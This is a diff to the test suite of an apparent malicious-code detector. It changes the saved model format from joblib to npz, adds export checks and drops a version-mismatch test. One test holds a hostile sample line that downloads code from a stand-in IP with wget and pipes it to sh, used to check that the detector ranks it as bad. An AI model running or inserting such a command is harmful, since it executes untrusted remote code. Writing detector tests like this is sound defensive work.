@@ -21,7 +21,6 @@ from code_fixtures import (
 from typer.testing import CliRunner
 
 from detector.code import model as model_mod
-from detector.policy import load_policy
 from warden.cli import app
 
 CONTRACT_KEYS = {"path", "score", "flagged", "findings", "error"}
@@ -164,15 +163,17 @@ def test_train_writes_artifact_card_and_metrics(trained):
     assert report["curves"]["roc"]["points"] and report["curves"]["pr"]["points"]
     assert set(report["cv"]["score"]["confusion"]) == {"tn", "fp", "fn", "tp"}
     assert report["versions"]["scikit-learn"]
+    assert report["export"]["max_abs_difference"] < 1e-9
+    assert report["export"]["packages_compared"] == 48
     assert report["top_features"]
     card = (out / "code-model.md").read_text()
     assert "StratifiedGroupKFold" in card and "ROC-AUC" in card
-    assert (out / "code-model.joblib").stat().st_size < 5_000_000
+    assert (out / "code-model.npz").stat().st_size < 5_000_000
 
 
 def test_trained_model_loads_and_ranks(trained):
     _, out = trained
-    model = model_mod.load(out / "code-model.joblib")
+    model = model_mod.load(out / "code-model.npz")
     from detector.code.analyze import analyze, rule_score
 
     def p(source):
@@ -182,19 +183,6 @@ def test_trained_model_loads_and_ranks(trained):
     bad = p("import os\nos.system('wget -q http://203.0.113.77/a -O- | sh')\n")
     good = p("from setuptools import setup\nsetup(name='fine')\n")
     assert bad > good
-
-
-def test_model_version_mismatch_warns_or_refuses(trained, tmp_path):
-    _, out = trained
-    meta = json.loads((out / "code-model.json").read_text())
-    meta["versions"]["scikit-learn"] = "0.1.0"
-    (out / "code-model.json").write_text(json.dumps(meta))
-    with pytest.warns(UserWarning, match="scikit-learn 0.1.0"):
-        model_mod.load(out / "code-model.joblib")
-    refuse = tmp_path / "refuse.toml"
-    refuse.write_text('[code]\nmodel_version_mismatch = "refuse"\n')
-    with pytest.raises(model_mod.ModelVersionError):
-        model_mod.load(out / "code-model.joblib", policy=load_policy(refuse))
 
 
 def test_train_missing_corpus_exits_2(tmp_path):
